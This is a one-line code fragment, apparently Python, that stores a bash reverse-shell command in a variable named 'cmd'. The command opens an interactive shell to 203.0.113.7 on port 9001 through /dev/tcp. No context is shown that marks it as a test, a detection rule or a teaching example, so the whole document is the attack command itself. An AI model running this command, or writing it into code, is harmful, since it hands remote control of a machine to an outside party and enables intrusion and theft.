cmd = 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1'
